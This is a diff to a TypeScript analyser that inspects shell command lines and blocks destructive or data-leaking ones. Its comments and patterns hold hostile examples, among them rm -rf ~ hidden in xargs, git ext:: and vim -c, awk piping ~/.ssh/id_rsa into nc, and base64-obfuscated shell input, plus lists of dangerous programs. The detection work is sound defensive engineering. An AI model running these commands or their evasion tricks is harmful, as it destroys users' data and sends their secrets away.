@@ -55,6 +55,8 @@ export interface Invocation {
   viaXargs: boolean;
   /** xargs -I REPL: the string replaced by each input item. */
   xargsReplace?: string;
+  /** xargs -I, -0, -d: each item is a whole line (or the whole input), not a word. */
+  xargsLines?: boolean;
   /** xargs -a FILE: the file it reads its items from. */
   xargsFile?: Word;
   /** Invocations earlier in the same pipeline (their output is this one's input). */
@@ -116,6 +118,8 @@ interface Unwrapped {
   elevated: boolean;
   viaXargs: boolean;
   xargsReplace?: string;
+  /** xargs -I, -0, -d: each item is a whole line (or the whole input), not a word. */
+  xargsLines?: boolean;
   /** A script to analyse in place of (or besides) the command: sh -c, eval, env -S, watch. */
   script: string | null;
   /** The wrapper only asks about the command (command -v, type): nothing runs. */
@@ -292,6 +296,7 @@ export function unwrap(input: Word[], env: { home: string; cwd: string }): Unwra
           else if (t === '-i' || t === '--replace') u.xargsReplace = '{}';
           else if (t.startsWith('--replace=')) u.xargsReplace = t.slice(10);
           else if (t.startsWith('-i')) u.xargsReplace = t.slice(2);
+          if (u.xargsReplace !== undefined || /^(-[a-zA-OQ-Z]*0[a-zA-Z]*|-d.*|--null|--delimiter.*)$/.test(t)) u.xargsLines = true;
           if (XARGS_ARG_OPTS.has(t)) k++;
         }
         // A cluster ending in a value option (-r0a FILE, -0I{}) takes the next word too.
@@ -479,7 +484,8 @@ function collect(walk: Walk, script: string, startCwd: string | null, depth: num
       const args = cmd.words.slice(1).map((w) => w.text);
       for (const body of parsed.commands.slice(fn.start, fn.end)) {
         if (body.words[0]?.text === fn.name) continue;
-        calls.push({ ...body, words: body.words.map((w) => withPositional(w, args)), pipeline: body.pipeline + 500_000 });
+        // "$@" (or $*) as a whole word stands for the call's words, each its own word: G() { git "$@"; }; G push -f origin main.
+        calls.push({ ...body, words: body.words.flatMap((w) => (w.dynamic && /^\$\{?[@*]\}?$/.test(w.text) ? cmd.words.slice(1) : [withPositional(w, args)])), pipeline: body.pipeline + 500_000 });
       }
     }
   }
@@ -691,14 +697,20 @@ function toInvocation(walk: Walk, cmd: SimpleCommand, cwd: string | null, depth:
     const at = base(words[0].text).startsWith('git-') ? 0 : 1;
     words = [{ ...words[at], text: 'git' }, { ...words[at], text: dashed[1] }, ...words.slice(at + 1)];
   }
+  // /???/[r]m, /usr/bin/r[m]: a command name written as a glob runs what it matches; a dangerous program among the matches is taken.
+  const globName = words[0] && !words[0].quoted && /[*?[]/.test(base(words[0].text)) ? GLOB_HEADS.find((n) => globMatches(base(words[0].text), n)) : undefined;
+  if (globName) words = [{ ...words[0], text: globName, glob: false }, ...words.slice(1)];
   const argv = text(words);
   if (argv[0]?.includes('/') && !argv[0].startsWith('./')) argv[0] = base(argv[0]);
   // bfs, gfind: find under another name.
   if (/^(bfs|gfind)$/.test(argv[0] ?? '')) argv[0] = 'find';
   if (/^(bin\/rails|bin\/rake|\.\/bin\/rails)$/.test(words[0]?.text ?? '')) argv[0] = base(words[0].text);
   if (argv[0] === 'php' && argv[1] === 'artisan') argv.splice(0, 2, 'artisan');
-  return { remote: walk.remote, prod: walk.prod, submodule: walk.submodule, argv, words, redirects: cmd.redirects, cwd: runCwd, elevated: u.elevated, viaXargs: u.viaXargs, xargsReplace: u.xargsReplace, xargsFile: u.xargsFile, upstream: [], nested, assigned: u.assigned.map((w) => w.text) };
+  return { remote: walk.remote, prod: walk.prod, submodule: walk.submodule, argv, words, redirects: cmd.redirects, cwd: runCwd, elevated: u.elevated, viaXargs: u.viaXargs, xargsReplace: u.xargsReplace, xargsLines: u.xargsLines, xargsFile: u.xargsFile, upstream: [], nested, assigned: u.assigned.map((w) => w.text) };
 }
+
+/** Programs a glob in the command name (/???/[r]m) is checked against, the dangerous first. */
+const GLOB_HEADS = ['rm', 'dd', 'shred', 'mkfs', 'wipefs', 'sh', 'bash', 'zsh', 'dash', 'git', 'curl', 'wget', 'nc', 'ncat', 'chmod', 'chown', 'find', 'xargs', 'sudo', 'mv', 'cp', 'tee', 'perl', 'python3', 'python', 'ruby', 'node', 'kill'];
 
 /** Variables whose value is a command line a program runs later (git, pagers, editors, askpass helpers). */
 const COMMAND_VARS = /^(GIT_SSH_COMMAND|GIT_PROXY_COMMAND|GIT_EXTERNAL_DIFF|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_PAGER|GIT_ASKPASS|SSH_ASKPASS|SUDO_ASKPASS|PAGER|MANPAGER|EDITOR|VISUAL|BROWSER|LESSOPEN|LESSCLOSE|FCEDIT)$/;
@@ -778,8 +790,9 @@ function stdinText(inv: Invocation): string | null {
     const args = feeder.argv.slice(1).filter((a, k) => !(k === 0 && /^-[neE]+$/.test(a)));
     if (feeder.argv[0] === 'printf') return printfFormat(args[0] ?? '', args.slice(1));
     // bash's echo prints \n as it is, zsh's and dash's turn it into a newline: both readings are checked.
+    // (echo -e, and zsh's and dash's echo, also turn \x72 and \0162 into the characters.)
     const raw = args.join(' ');
-    const escaped = raw.replace(/\\n/g, '\n');
+    const escaped = /\\(x[0-9a-fA-F]|0[0-7])/.test(raw) ? unescapePrintf(raw) : raw.replace(/\\n/g, '\n');
     return escaped === raw ? raw : `${raw}\n${escaped}`;
   }
   if (feeder.argv[0] === 'cat' && feeder.argv.length === 1) for (const r of feeder.redirects) if (r.body !== undefined) return r.body;
@@ -907,7 +920,8 @@ function perItem(walk: Walk, inv: Invocation, script: string, hole: string | Reg
   }
   const fed = xargsItems(walk, inv);
   for (const t of (fed?.items ?? [STDIN_TARGET]).slice(0, 8)) {
-    const item = t.abs !== null && !t.abs.endsWith('/…') ? t.abs : '$ITEM';
+    // A whole line (xargs -I{} sh -c '{}' <<< 'rm -rf ~') goes in as written: it is a command line, not a path.
+    const item = inv.xargsLines && /\s/.test(t.word.text) ? t.word.text : t.abs !== null && !t.abs.endsWith('/…') ? t.abs : '$ITEM';
     const body = script.split(hole).join(item);
     // The items of a whole tree deleted, shredded or emptied one by one: rm -r of the tree.
     collect(walk, fed?.recursive && /^\s*(rm|shred|unlink|:?\s*>)/.test(body) && !/\s-[a-zA-Z]*[rR]/.test(body) ? body.replace(/^\s*(rm|shred(\s+-\w+)*|unlink|:?\s*>)\s*/, 'rm -r ') : body, inv.cwd, depth + 1, true);
@@ -926,6 +940,8 @@ function expandNested(walk: Walk, inv: Invocation, cmd: SimpleCommand, depth: nu
     // find ~ | xargs -I % sh -c 'rm -rf "%"' (or sh -c 'rm "$0"', xargs appending the item): each item xargs feeds is put into the script.
     const hole = inv.xargsReplace ?? (after.length === 0 ? /"?\$\{?[0-9@*]\}?"?/g : null);
     if (script !== null && inv.viaXargs && hole !== null && script.search(hole) >= 0) perItem(walk, inv, script, hole, depth);
+    // echo 'rm -rf ~' | xargs -0 bash -c: the item xargs appends after -c is the script itself.
+    if (script === null && inv.viaXargs && inv.argv[inv.argv.length - 1] === '-c') for (const t of (xargsItems(walk, inv)?.items ?? []).slice(0, 8)) collect(walk, t.word.text, inv.cwd, depth + 1, true);
     if (readsStdin) stdinScript(walk, inv, depth);
     else if (script === null) {
       procSubScript(walk, inv, depth);
@@ -1015,7 +1031,7 @@ function expandNested(walk: Walk, inv: Invocation, cmd: SimpleCommand, depth: nu
   else if (name === 'git') gitConfigCommands(walk, inv, depth);
   else if (((/^(npm|pnpm|yarn|bun)$/.test(name) && /^(exec|x|dlx)$/.test(inv.argv[1] ?? '')) || (/^(conda|mamba|micromamba|pixi)$/.test(name) && inv.argv[1] === 'run')) && depth < MAX_DEPTH) genericNested(walk, { ...inv, words: inv.words.slice(1), argv: inv.argv.slice(1) }, depth);
   else if (/^(npm|pnpm|yarn|bun)$/.test(name)) npmScripts(walk, inv, depth);
-  else if (name === 'make' && inv.argv.some((a, k) => a === '-' && /^(-f|--file|--makefile)$/.test(inv.argv[k - 1] ?? '')) && depth < MAX_DEPTH) genericNested(walk, { ...inv, words: inv.words.slice(0, 1), argv: inv.argv.slice(0, 1) }, depth);
+  else if (name === 'make' && depth < MAX_DEPTH && makeRecipes(walk, inv, depth)) genericNested(walk, { ...inv, words: inv.words.slice(0, 1), argv: inv.argv.slice(0, 1) }, depth);
   else if (!NOT_WRAPPERS.has(name) && !langOf(name ?? '') && depth < MAX_DEPTH) {
     // kubectl exec -n prod …, ansible -i inventory/prod …: what they run, runs in production.
     const wasProd = walk.prod;
@@ -1053,12 +1069,19 @@ function expandNested(walk: Walk, inv: Invocation, cmd: SimpleCommand, depth: nu
   if (lang) {
     const { code: code0, readsStdin } = inlineCode(lang, inv.argv);
     // python -c CODE ~ /x: the words after the code are its arguments.
-    const code = code0 !== null && lang !== 'awk' && inv.argv.lastIndexOf(code0) > 0 ? withArgs(lang, code0, inv.argv.slice(inv.argv.lastIndexOf(code0) + 1)) : code0;
+    const code1 = code0 !== null && lang !== 'awk' && inv.argv.lastIndexOf(code0) > 0 ? withArgs(lang, code0, inv.argv.slice(inv.argv.lastIndexOf(code0) + 1)) : code0;
+    // perl -MLWP::Simple -e 'getstore(…)': the modules loaded on the command line are part of the code.
+    const modules = lang === 'perl' && code1 !== null ? inv.argv.filter((a) => /^-M[\w:]+/.test(a)).map((a) => `use ${a.slice(2).replace(/[=\s].*$/, '')};`).join('\n') : '';
+    const code = modules && code1 !== null ? `${modules}\n${code1}` : code1;
     // python3 - ARGS <<'PY': the words after `-` are the script's arguments.
     const dash = inv.argv.indexOf('-');
     const piped = code === null && readsStdin ? stdinText(inv) : null;
     const text = code ?? (piped !== null && dash > 0 && lang !== 'awk' ? withArgs(lang, piped, inv.argv.slice(dash + 1)) : piped);
     if (text !== null) checkCode(walk, inv, lang, text, depth);
+    // awk '{print | "nc HOST PORT"}' ~/.ssh/id_rsa: the lines of the files it reads go to a command that sends them.
+    const sender = lang === 'awk' && code0 !== null ? /print[^|;}]*\|\s*(["'])\s*(nc|ncat|netcat|curl|socat|telnet|ssh|mail|mailx|sendmail|mutt)\b/.exec(code0) : null;
+    const secretIn = sender ? inv.words.slice(inv.argv.lastIndexOf(code0!) + 1).map((w) => target(inv, w).abs).find((a) => isSecret(walk, a)) : undefined;
+    if (sender && secretIn) block(walk, 'dangerous', `awk prints ${secretIn} into ${sender[2]}, which sends it away: secrets must not leave this machine`);
     // Code that runs what it reads on stdin (exec(sys.stdin.read()), eval(STDIN.read)): the piped text is code too.
     if (code !== null && /\b(exec|eval)\s*\(?[^;\n]*(stdin|STDIN|<STDIN>|readFileSync\(\s*(0|['"]\/dev\/stdin['"]))/.test(code)) {
       const piped = stdinText(inv);
@@ -1280,6 +1303,12 @@ const SOURCE_RUNNERS = /^(go|gcc|g\+\+|cc|clang|clang\+\+|tcc|rustc|javac|java|k
 
 /** git -c KEY=CMD and git config KEY CMD for the keys whose value git runs (core.pager, core.sshCommand, core.editor, core.fsmonitor, sequence.editor, diff.external, credential.helper '!…'). */
 function gitConfigCommands(walk: Walk, inv: Invocation, depth: number): void {
+  // git clone 'ext::sh -c rm% -rf% ~': the ext transport runs its command, split at spaces ("% " is a space inside a word).
+  for (const a of inv.argv) {
+    if (!a.startsWith('ext::')) continue;
+    const words = a.slice(5).split(/(?<!%) +/).map((x) => x.replace(/%(.)/g, (_m, c: string) => (c === ' ' || c === '%' ? c : '')));
+    collect(walk, words.map((x) => (/^[\w@%+=:,./~-]+$/.test(x) ? x : `'${x.replace(/'/g, `'\\''`)}'`)).join(' '), inv.cwd, depth + 1, true);
+  }
   // git rebase -x CMD / --exec CMD, git submodule foreach CMD, git bisect run CMD: git runs CMD through the shell.
   const a0 = inv.argv;
   for (let k = 1; k < a0.length; k++) {
@@ -1325,6 +1354,21 @@ function gitConfigCommands(walk: Walk, inv: Invocation, depth: number): void {
 }
 
 /** source <(echo '…') / bash <(printf …): a process substitution whose output is known is the script run. */
+/**
+ * make -f - (or /dev/stdin, or <(printf …)) given its makefile on the line: each recipe line (a tab, or the
+ * .RECIPEPREFIX character, in front) is a command it runs, $$ being $. True when the makefile came from the line.
+ */
+function makeRecipes(walk: Walk, inv: Invocation, depth: number): boolean {
+  const k = inv.argv.findIndex((a, j) => j > 0 && /^(-f|--file|--makefile)$/.test(inv.argv[j - 1] ?? ''));
+  const w = k > 0 ? inv.words[k] : inv.words.find((x) => /^-[a-zA-Z]*f-$/.test(x.text));
+  if (!w) return false;
+  const text = /^(-|\/dev\/stdin|\/dev\/fd\/0|-[a-zA-Z]*f-)$/.test(w.text) ? stdinText(inv) : w.subs.length > 0 ? resolveSubstitution(w.subs[0], parseEnv(walk, inv.cwd)) : null;
+  if (text === null) return w.text === '-';
+  const prefix = /^\.RECIPEPREFIX\s*:?=\s*(\S)/m.exec(text)?.[1] ?? '\t';
+  for (const line of text.split('\n')) if (line.startsWith(prefix)) collect(walk, line.slice(prefix.length).replace(/^[@+-]+/, '').replace(/\$\$/g, '$').replace(/\$[({]HOME[)}]/g, '$HOME'), inv.cwd, depth + 1, true);
+  return true;
+}
+
 function procSubScript(walk: Walk, inv: Invocation, depth: number): void {
   const w = inv.words.slice(1).find((x) => x.text.startsWith('/dev/fd/') && x.subs.length > 0);
   if (!w) return;
@@ -1920,9 +1964,10 @@ function globMatches(glob: string, name: string): boolean {
 
 function target(inv: Invocation, w: Word): Target {
   if (w.text.startsWith('$(…)') || (w.dynamic && /^\$\{?[A-Za-z_0-9@*]/.test(w.text))) return { word: w, abs: null, wholeDir: false };
-  let p = w.text;
+  // ~/.[s]sh: a bracket holding one character matches only that character.
+  let p = w.glob ? w.text.replace(/\[([^\]!^\\])\]/g, '$1') : w.text;
   let wholeDir = false;
-  if (w.glob) {
+  if (w.glob && /[*?[]|[!@+]\(/.test(p)) {
     const segs = p.split('/');
     const g = segs.findIndex((s) => /[*?[]|[!@+]\(/.test(s));
     // /home/*/.ssh/id_*: a glob in the middle with fixed names after it is that path in any of the matches.
@@ -2089,7 +2134,7 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
       break;
     case 'sed':
     case 'perl': {
-      if (!args.some((a) => /^-[a-zA-Z]*i/.test(a) || a.startsWith('--in-place'))) {
+      if (!args.some((a) => /^-[a-zA-Z0-9]*i/.test(a) || a.startsWith('--in-place'))) {
         for (const w of operands(inv.words, new Set(['-e', '-f']))) checkRead(walk, inv, target(inv, w), name);
         break;
       }
@@ -2376,6 +2421,14 @@ function checkToolCommands(walk: Walk, inv: Invocation): void {
   const [name, ...args] = inv.argv;
   const cmds: string[] = [];
   const val = (k: number, pre: string) => (args[k].length > pre.length ? args[k].slice(pre.length) : args[k + 1] ?? '');
+  // vim -c ':silent !rm -rf ~' (+cmd, --cmd, ex, view): an Ex command beginning with ! (or :r !, :w !, system()) runs a shell command.
+  if (/^(vim?|nvim|gvim|ex|view|vimdiff|rvim)$/.test(name)) {
+    const exCmds = args.filter((a, k) => /^(-c|--cmd)$/.test(args[k - 1] ?? '') || /^\+./.test(a)).map((a) => a.replace(/^\+/, ''));
+    for (const c of exCmds) {
+      const m = /^\s*:?\s*(?:silent!?\s*|exe(?:cute)?\s+['"])?(?:!|r(?:ead)?\s*!|w(?:rite)?\s*!|call\s+system\(\s*['"])\s*([^'"]*)/.exec(c);
+      if (m && m[1].trim() !== '') cmds.push(m[1]);
+    }
+  }
   args.forEach((a, k) => {
     if (name === 'tar') {
       const m = /^--(checkpoint-action=exec=|to-command=|use-compress-program=|info-script=|new-volume-script=)(.*)$/.exec(a);
@@ -2675,7 +2728,8 @@ function xargsItems(walk: Walk, inv: Invocation): { items: Target[]; recursive: 
   const home = walk.env.home;
   const here = inv.redirects.find((r) => r.body !== undefined);
   const word = (t: string): Word => ({ text: t, dynamic: false, glob: /[*?]/.test(t), subs: [], quoted: false });
-  const fromText = (t: string, at: Invocation) => ({ items: t.split(/[\s\0]+/).filter((x) => x !== '').map((x) => target(at, word(x))), recursive: false });
+  // -I, -0, -d: an item is a line (or all the text up to a NUL); otherwise every word is one.
+  const fromText = (t: string, at: Invocation) => ({ items: t.split(inv.xargsLines ? /\n+|\0+/ : /[\s\0]+/).map((x) => (inv.xargsLines ? x.trim() : x)).filter((x) => x !== '').map((x) => target(at, word(x))), recursive: false });
   if (here) return fromText(here.body!, inv);
   // xargs -a <(echo ~) / -a FILE-the-line-wrote: the argument file's text.
   const listFile = (w: Word | undefined) => (w && inv.cwd !== null && !w.dynamic ? walk.listFiles.get(resolveFrom(inv.cwd, w.text)) : undefined);
@@ -2823,7 +2877,8 @@ function substitutionItems(walk: Walk, inv: Invocation, sub: string): { items: T
 function broadRoot(walk: Walk, abs: string | null): boolean {
   if (abs === null) return false;
   const c = classifyDelete(abs, walk.env);
-  return c === 'root' || c === 'home' || c === 'ancestor';
+  // /home and /Users hold every user's home.
+  return c === 'root' || c === 'home' || c === 'ancestor' || /^\/(home|Users)\/?$/.test(abs);
 }
 
 /** Any home is a home: a directory right in /home/NAME or /Users/NAME (another checkout, the user's files), not a cache; returns that home. */
@@ -3165,6 +3220,13 @@ function checkPipelineIntoShell(walk: Walk, inv: Invocation): void {
     return;
   }
   const dec = ups.find((u) => isDecoding(u.argv));
+  // echo ZWNobyBoZWxsbw== | base64 -d | sh: base64 of text on the line is no secret; what it decodes to is judged instead.
+  const input = dec && dec.argv[0] === 'base64' && dec === inv.upstream[inv.upstream.length - 1] && SHELLS.has(inv.argv[0]) ? stdinText(dec) : null;
+  const plain = input !== null && /^[A-Za-z0-9+/=\s]+$/.test(input) ? Buffer.from(input.replace(/\s+/g, ''), 'base64').toString('utf8') : null;
+  if (plain !== null && plain.trim() !== '' && /^[\x09\x0a\x0d\x20-\x7e]+$/.test(plain)) {
+    collect(walk, plain, inv.cwd, 1, true);
+    return;
+  }
   if (dec) {
     block(walk, 'dangerous', `decoding text (${dec.argv[0]}) into ${inv.argv[0]} runs commands hidden from review`, 'decode to a file and read it first');
   }
@@ -3574,6 +3636,9 @@ function checkGit(walk: Walk, inv: Invocation): void {
       // -x with no -e, no pathspec, not interactive, on the work tree: every untracked and ignored file (.env, local data, new source) goes for good.
       if (c.x && !c.exclude && !c.paths && !c.interactive && !inv.submodule) {
         block(walk, 'dangerous', `git clean ${rest.join(' ')} deletes every untracked and ignored file of the work tree for good (.env, local data, source not yet added)`, 'run git clean -n first, or keep files with -e .env, or name the paths: git clean -fdx -- build/');
+      } else if (!c.exclude && !c.paths && !c.interactive && !inv.submodule && walk.out.some((o) => o.argv[0] === 'git' && o.cwd === inv.cwd && !o.submodule && discardsWorkTree(o.argv))) {
+        // git checkout -- . && git clean -fd (reset --hard, restore .): every change since the last commit and every new file, gone together.
+        block(walk, 'dangerous', `git clean ${rest.join(' ')} with the tracked changes discarded on the same line: all work since the last commit, new files too, is gone for good`, 'git stash -u keeps both and can be dropped later');
       } else {
         warn(walk, 'suspicious', 'git clean -f deletes untracked files for good', 'run git clean -n first to see what would go');
         critical(walk, 'git clean');
@@ -4108,6 +4173,8 @@ function checkExfiltration(walk: Walk, inv: Invocation): void {
     // -T FILE, also inside a cluster of short options (curl -sT FILE).
     const uploadOpt = prev === '--upload-file' || prev === '--post-file' || prev === '--body-file' || (name === 'curl' && /^-[a-zA-Z]*T$/.test(prev)) || (/^(mutt|mail|mailx|neomutt|s-nail|swaks|sendemail)$/.test(name) && /^(-a|-A|--attach|--attach-type)$/.test(prev));
     const path = atFile ?? eq ?? (uploadOpt ? t : null);
+    // -F "f=@$(echo fi8uc3No… | base64 -d)": a file whose name is decoded only when it runs, hidden from review.
+    if (path && path.includes('$(…)') && w.subs.some((sub) => /\bbase64\s+(-[a-zA-Z]*[dD]|--decode)\b|\bxxd\s+-[a-z]*r|\bbase32\s+-d|\brev\b|\bopenssl\s+(enc\s+)?-?base64\s+-d/.test(sub))) return say('a file whose name is decoded only when it runs', 'as a file argument, hidden from review');
     const upload = (name === 'az' || name === 'gcloud') && /^(-f|--file|--source|--data)$/.test(prev);
     // scp HOST:SRC ./dst downloads: only a local source sent to a remote destination leaves.
     const ops = ['scp', 'rsync', 'sftp'].includes(name) ? args.filter((a, j) => !a.startsWith('-') && !noValue.has(args[j - 1] ?? '')) : [];
@@ -4271,6 +4338,15 @@ function checkOutputSubstitutions(walk: Walk, inv: Invocation): void {
 }
 
 /** Checks over the whole line: a secret file added to git and pushed. */
+/** git reset --hard, git checkout [--] ., git restore [--worktree] .: every uncommitted change to tracked files thrown away. */
+function discardsWorkTree(argv: string[]): boolean {
+  const sub = argv.find((a, k) => k > 0 && !a.startsWith('-') && !/^-[cC]$/.test(argv[k - 1] ?? ''));
+  const rest = argv.slice(argv.indexOf(sub ?? '') + 1);
+  if (sub === 'reset') return rest.includes('--hard');
+  if (sub === 'checkout' || sub === 'restore') return rest.includes('.') && !(sub === 'restore' && rest.includes('--staged') && !rest.some((a) => a === '--worktree' || a === '-W'));
+  return false;
+}
+
 function checkLine(walk: Walk): void {
   const gits = walk.out.filter((i) => i.argv[0] === 'git');
   const made = [...walk.secretFiles];
